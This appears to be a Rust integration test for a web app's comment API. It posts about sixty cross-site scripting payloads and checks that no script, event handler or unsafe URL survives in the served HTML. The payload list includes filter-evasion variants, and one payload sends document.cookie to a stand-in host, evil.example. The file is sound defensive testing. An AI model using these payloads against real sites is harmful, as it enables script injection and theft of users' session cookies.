//! Hostile comment bodies: every payload is posted through the API and read
//! back through GraphQL and REST; no script, event handler or unsafe URL may
//! survive in the served HTML, and every link is marked as user content.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common::{Story, TestApp, t0};
use chrono::TimeDelta;
use serde_json::json;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](  javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "![img](javascript:alert(1))",
    "![x](https://example.com/x.png\"onerror=\"alert(1))",
    "[x](https://example.com \"title\" onmouseover=alert(1))",
    "<javascript:alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<table background=\"javascript:alert(1)\">",
    "<p onclick=alert(1)>para</p>",
    "<em onmouseover=\"alert(1)\">em</em>",
    "<a href=x onclick=alert(1)>x</a>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<base href=\"javascript:alert(1)//\">",
    "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">ok</a>",
    "> <script>alert(1)</script> quoted",
    "* <img src=x onerror=alert(1)> listed",
    "`<script>alert(1)</script>` in code",
    "```\n<script>alert(1)</script>\n```",
    "**<script>alert(1)</script>**",
    "\u{202e}<script>alert(1)</script>",
    "<a href=\"https://example.com\">a plain link</a> and [markdown](https://example.com/page)",
    "<img src=\"x\" alt=\"\" onerror=\"fetch('//evil.example/'+document.cookie)\">",
];

/// Each tag in `html` (between a real `<` and `>`), lower-cased.
fn tags(html: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let Some(end) = rest[start..].find('>') else { break };
        out.push(rest[start..start + end + 1].to_lowercase());
        rest = &rest[start + end + 1..];
    }
    out
}

/// The attribute names in the inside of a tag, skipping quoted values.
fn attribute_names(attrs: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut chars = attrs.chars().peekable();
    while let Some(c) = chars.next() {
        if c.is_whitespace() {
            continue;
        }
        let mut name = String::from(c);
        while let Some(&n) = chars.peek() {
            if n.is_whitespace() || n == '=' {
                break;
            }
            name.push(n);
            chars.next();
        }
        names.push(name);
        while chars.peek().is_some_and(|c| c.is_whitespace()) {
            chars.next();
        }
        if chars.peek() == Some(&'=') {
            chars.next();
            while chars.peek().is_some_and(|c| c.is_whitespace()) {
                chars.next();
            }
            match chars.peek() {
                Some(&q) if q == '"' || q == '\'' => {
                    chars.next();
                    for v in chars.by_ref() {
                        if v == q {
                            break;
                        }
                    }
                }
                _ => {
                    while chars.peek().is_some_and(|c| !c.is_whitespace()) {
                        chars.next();
                    }
                }
            }
        }
    }
    names
}

fn assert_safe(html: &str, payload: &str) {
    let allowed = ["p", "br", "em", "strong", "a", "blockquote", "code", "pre", "ul", "ol", "li", "del"];
    for tag in tags(html) {
        let name: String =
            tag.trim_start_matches(['<', '/']).chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
        assert!(allowed.contains(&name.as_str()), "tag {tag} in {html:?} from {payload:?}");
        // No attribute but href and rel, and only a safe href.
        let attrs =
            tag.trim_start_matches(['<', '/']).trim_start_matches(name.as_str()).trim_end_matches(['>', '/']);
        for key in attribute_names(attrs) {
            assert!(key == "href" || key == "rel", "attribute {key} in {tag} from {payload:?}");
        }
        if name == "a" && !tag.starts_with("</") {
            assert!(tag.contains("rel=\"nofollow ugc noopener\""), "{tag} from {payload:?}");
            if let Some(i) = tag.find("href=\"") {
                let href = &tag[i + 6..];
                let href = &href[..href.find('"').unwrap_or(href.len())];
                let scheme_ok = href.starts_with("https://")
                    || href.starts_with("http://")
                    || href.starts_with("mailto:");
                let relative = !href.contains(':');
                assert!(scheme_ok || relative, "href {href} from {payload:?}");
            }
        }
    }
}

#[actix_web::test]
async fn no_script_handler_or_unsafe_url_survives_in_served_html() {
    assert!(PAYLOADS.len() >= 50);
    let app = TestApp::spawn().await;
    let article = app.story("xss", "XSS", Some(t0() - TimeDelta::hours(1)), Story::default()).await;
    let (token, _) = app.person("Mallory", "READER").await;
    for (i, p) in PAYLOADS.iter().enumerate() {
        app.clock_tick();
        let r = app.post_comment(&token, article, None, &format!("{p} #{i}")).await;
        let html = r["data"]["postComment"]["comment"]["body"]["html"]
            .as_str()
            .unwrap_or_else(|| panic!("{p:?}: {r}"));
        assert_safe(html, p);
    }
    // What is stored is served the same way to everyone, in both APIs.
    let mut after: Option<String> = None;
    let mut seen = 0;
    loop {
        let q = "query($a: String) { article(slug: \"xss\") { comments(first: 100, after: $a) { nodes { body { html } } pageInfo { endCursor hasNextPage } } } }";
        let r = app.gql(q, json!({ "a": after })).await;
        let conn = &r["data"]["article"]["comments"];
        for n in conn["nodes"].as_array().unwrap() {
            assert_safe(n["body"]["html"].as_str().unwrap(), "(read back)");
            seen += 1;
        }
        if conn["pageInfo"]["hasNextPage"] != true {
            break;
        }
        after = conn["pageInfo"]["endCursor"].as_str().map(str::to_owned);
    }
    assert_eq!(seen, PAYLOADS.len());
    let (_, rest) = app.get_json("/v1/articles/xss/comments?limit=100&replies=0").await;
    for item in rest["items"].as_array().unwrap() {
        assert_safe(item["body"]["html"].as_str().unwrap(), "(REST)");
    }
    // A safe Markdown link keeps working, marked as user content.
    let linked = rest["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["body"]["text"].as_str().unwrap().contains("a plain link"))
        .unwrap();
    let html = linked["body"]["html"].as_str().unwrap();
    assert!(
        html.contains(r#"<a href="https://example.com/page" rel="nofollow ugc noopener">markdown</a>"#),
        "{html}"
    );
}
